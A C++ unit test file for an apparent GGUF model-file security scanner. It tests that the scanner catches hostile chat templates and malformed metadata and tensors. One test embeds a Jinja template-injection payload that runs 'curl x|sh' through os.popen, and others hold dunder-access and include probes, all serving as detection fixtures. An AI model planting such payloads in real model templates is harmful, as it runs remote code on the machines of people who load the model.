#include "scanners/gguf.h"

#include <gtest/gtest.h>

#include <chrono>
#include <string>

#include "scanners/context.h"
#include "scanners/source.h"

namespace modelgate::scanners {
namespace {

// Builds GGUF bytes field by field.
class Gguf {
 public:
  explicit Gguf(uint32_t version = 3, uint64_t tensors = 0, uint64_t kv = 0) {
    b_ = "GGUF";
    U32(version).U64(tensors).U64(kv);
  }
  Gguf& U32(uint32_t v) { return Le(v, 4); }
  Gguf& U64(uint64_t v) { return Le(v, 8); }
  Gguf& Str(const std::string& s) {
    U64(s.size());
    b_ += s;
    return *this;
  }
  Gguf& KvString(const std::string& k, const std::string& v) { return Str(k).U32(8).Str(v); }
  Gguf& KvU32(const std::string& k, uint32_t v) { return Str(k).U32(4).U32(v); }
  // Tensor info: 1-D tensor of `n` elements of ggml `type` at `offset`.
  Gguf& Tensor(const std::string& name, uint64_t n, uint32_t type, uint64_t offset) {
    return Str(name).U32(1).U64(n).U32(type).U64(offset);
  }
  Gguf& PadTo(uint64_t align) {
    while (b_.size() % align) b_.push_back('\0');
    return *this;
  }
  Gguf& Raw(const std::string& s) {
    b_ += s;
    return *this;
  }
  const std::string& bytes() const { return b_; }

 private:
  Gguf& Le(uint64_t v, int n) {
    for (int i = 0; i < n; ++i) b_.push_back(static_cast<char>((v >> (8 * i)) & 0xff));
    return *this;
  }
  std::string b_;
};

struct Outcome {
  FileReport report;
  bool Has(const std::string& rule) const {
    for (const auto& f : report.findings) {
      if (f.rule == rule) return true;
    }
    return false;
  }
  std::string Reason() const { return report.undecided.empty() ? "" : report.undecided[0].reason; }
  std::string Fact(const std::string& key) const {
    for (const auto& [k, v] : report.facts) {
      if (k == key) return v;
    }
    return "<none>";
  }
};

Outcome Scan(const std::string& bytes) {
  Outcome o;
  o.report.path = "model.gguf";
  ScanLimits limits;
  ScanContext ctx(limits, &o.report);
  MemorySource src(bytes);
  AnalyzeGguf(src, ctx);
  return o;
}

const char kChatMl[] =
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}";

TEST(Gguf, BenignModelWithTemplateAndTensorsIsClean) {
  Gguf g(3, 2, 3);
  g.KvString("general.architecture", "llama")
      .KvString("tokenizer.chat_template", kChatMl)
      .Str("tokenizer.ggml.tokens").U32(9).U32(8).U64(2).Str("a").Str("b")
      .Tensor("tok_embd.weight", 64, 8, 0)  // Q8_0: 2 blocks * 34 = 68 bytes, padded to 96
      .Tensor("output.weight", 4, 0, 96)    // F32: 16 bytes
      .PadTo(32)
      .Raw(std::string(96 + 16, '\0'));
  Outcome o = Scan(g.bytes());
  EXPECT_TRUE(o.report.undecided.empty()) << o.Reason();
  EXPECT_TRUE(o.report.findings.empty());
  EXPECT_EQ(o.Fact("gguf_version"), "3");
  EXPECT_EQ(o.Fact("gguf_tensors"), "2");
  EXPECT_EQ(o.Fact("gguf_architecture"), "llama");
  EXPECT_EQ(o.Fact("tokenizer.chat_template_sha256").size(), 64u);
}

TEST(Gguf, HostileDefaultTemplateIsFound) {
  Gguf g(3, 0, 1);
  g.KvString("tokenizer.chat_template",
             "{{ cycler.__init__.__globals__.os.popen('curl x|sh').read() }}");
  Outcome o = Scan(g.bytes());
  EXPECT_TRUE(o.Has("template/dunder-access"));
  EXPECT_TRUE(o.report.undecided.empty()) << o.Reason();
}

TEST(Gguf, NamedTemplatesAreAuditedToo) {
  Gguf g(2, 0, 2);
  g.KvString("tokenizer.chat_template", kChatMl)
      .KvString("tokenizer.chat_template.tool_use", "{% include 'x' %}");
  Outcome o = Scan(g.bytes());
  EXPECT_TRUE(o.Has("template/import"));
  EXPECT_NE(o.Fact("tokenizer.chat_template.tool_use_sha256"), "<none>");
}

TEST(Gguf, DuplicateTemplateKeyIsFinding) {
  // A benign first copy for one reader, a hostile second for another.
  Gguf g(3, 0, 2);
  g.KvString("tokenizer.chat_template", kChatMl)
      .KvString("tokenizer.chat_template", "{{ lipsum.__globals__ }}");
  Outcome o = Scan(g.bytes());
  EXPECT_TRUE(o.Has("gguf/duplicate-key"));
  EXPECT_TRUE(o.Has("template/dunder-access")) << "both copies are audited";
}

TEST(Gguf, NonStringTemplateUndecided) {
  Gguf g(3, 0, 1);
  g.KvU32("tokenizer.chat_template", 1);
  EXPECT_NE(Scan(g.bytes()).Reason().find("not a string"), std::string::npos);
}

TEST(Gguf, Version1Unsupported) {
  EXPECT_NE(Scan(Gguf(1).bytes()).Reason().find("v1"), std::string::npos);
  EXPECT_NE(Scan(Gguf(0x03000000).bytes()).Reason().find("big-endian"), std::string::npos);
  EXPECT_NE(Scan(Gguf(9).bytes()).Reason().find("unknown GGUF version"), std::string::npos);
}

TEST(Gguf, TruncatedMetadataUndecided) {
  Gguf g(3, 0, 2);
  g.KvString("general.architecture", "llama").Str("tokenizer.chat_template").U32(8).U64(1000);
  Outcome o = Scan(g.bytes() + "short");
  ASSERT_EQ(o.report.undecided.size(), 1u);
  EXPECT_NE(o.Reason().find("truncated"), std::string::npos) << o.Reason();
}

TEST(Gguf, HugeArrayLengthClaimUndecidedFast) {
  Gguf g(3, 0, 1);
  g.Str("tokenizer.ggml.tokens").U32(9).U32(8).U64(60'000'000).Str("a");
  auto start = std::chrono::steady_clock::now();
  Outcome o = Scan(g.bytes());
  auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                std::chrono::steady_clock::now() - start).count();
  EXPECT_NE(o.Reason().find("truncated"), std::string::npos) << o.Reason();
  EXPECT_LT(ms, 100);
  Gguf over(3, 0, 1);
  over.Str("x").U32(9).U32(0).U64(UINT64_MAX);
  EXPECT_NE(Scan(over.bytes()).Reason().find("over the bound"), std::string::npos);
}

TEST(Gguf, HugeCountsUndecided) {
  EXPECT_NE(Scan(Gguf(3, 0, UINT64_MAX).bytes()).Reason().find("over the bound"),
            std::string::npos);
  EXPECT_NE(Scan(Gguf(3, 0, 1000).bytes()).Reason().find("truncated"), std::string::npos);
}

TEST(Gguf, NestedArraysParsedAndBounded) {
  Gguf g(3, 0, 1);
  g.Str("nested").U32(9).U32(9).U64(2);
  g.U32(4).U64(2).U32(1).U32(2);    // [uint32 x2]
  g.U32(8).U64(1).Str("s");         // [string x1]
  EXPECT_TRUE(Scan(g.bytes()).report.undecided.empty()) << Scan(g.bytes()).Reason();
  Gguf deep(3, 0, 1);
  deep.Str("deep").U32(9);
  for (int i = 0; i < 20; ++i) deep.U32(9).U64(1);
  deep.U32(0).U64(0);
  deep.Raw(std::string(400, '\0'));
  EXPECT_NE(Scan(deep.bytes()).Reason().find("nested deeper"), std::string::npos);
}

TEST(Gguf, UnknownValueAndTensorTypesUndecided) {
  Gguf g(3, 0, 1);
  g.Str("k").U32(77).U64(0);
  EXPECT_NE(Scan(g.bytes()).Reason().find("unknown metadata value type"), std::string::npos);
  Gguf t(3, 1, 0);
  t.Tensor("w", 32, 4, 0).PadTo(32).Raw(std::string(64, '\0'));  // type 4 was removed
  EXPECT_NE(Scan(t.bytes()).Reason().find("unknown ggml type 4"), std::string::npos);
}

TEST(Gguf, TensorDataPastEndUndecided) {
  Gguf g(3, 1, 0);
  g.Tensor("w", 1024, 0, 0).PadTo(32).Raw(std::string(100, '\0'));  // needs 4096 bytes
  EXPECT_NE(Scan(g.bytes()).Reason().find("tensor data needs 4096"), std::string::npos);
}

TEST(Gguf, OverlappingOrMisalignedOffsetsUndecided) {
  Gguf g(3, 2, 0);
  g.Tensor("a", 16, 0, 0).Tensor("b", 16, 0, 0).PadTo(32).Raw(std::string(128, '\0'));
  EXPECT_NE(Scan(g.bytes()).Reason().find("expected 64"), std::string::npos);
  Gguf m(3, 1, 0);
  m.Tensor("a", 16, 0, 8).PadTo(32).Raw(std::string(128, '\0'));
  EXPECT_NE(Scan(m.bytes()).Reason().find("expected 0"), std::string::npos);
}

TEST(Gguf, QuantBlockMismatchUndecided) {
  Gguf g(3, 1, 0);
  g.Tensor("a", 33, 2, 0).PadTo(32).Raw(std::string(64, '\0'));  // Q4_0 needs multiples of 32
  EXPECT_NE(Scan(g.bytes()).Reason().find("block size"), std::string::npos);
}

TEST(Gguf, CustomAlignmentHonoured) {
  Gguf g(3, 2, 1);
  g.KvU32("general.alignment", 64)
      .Tensor("a", 4, 0, 0)    // 16 bytes, padded to 64
      .Tensor("b", 4, 0, 64)
      .PadTo(64)
      .Raw(std::string(80, '\0'));
  EXPECT_TRUE(Scan(g.bytes()).report.undecided.empty()) << Scan(g.bytes()).Reason();
  Gguf bad(3, 0, 1);
  bad.KvU32("general.alignment", 48);
  EXPECT_NE(Scan(bad.bytes()).Reason().find("power of two"), std::string::npos);
}

TEST(Gguf, DuplicateTensorNameAndTooManyDimsUndecided) {
  Gguf g(3, 2, 0);
  g.Tensor("a", 8, 0, 0).Tensor("a", 8, 0, 32).PadTo(32).Raw(std::string(64, '\0'));
  EXPECT_NE(Scan(g.bytes()).Reason().find("duplicate tensor"), std::string::npos);
  Gguf d(3, 1, 0);
  d.Str("a").U32(5).U64(1).U64(1).U64(1).U64(1).U64(1).U32(0).U64(0).Raw(std::string(64, '\0'));
  EXPECT_NE(Scan(d.bytes()).Reason().find("dimensions"), std::string::npos);
}

}  // namespace
}  // namespace modelgate::scanners
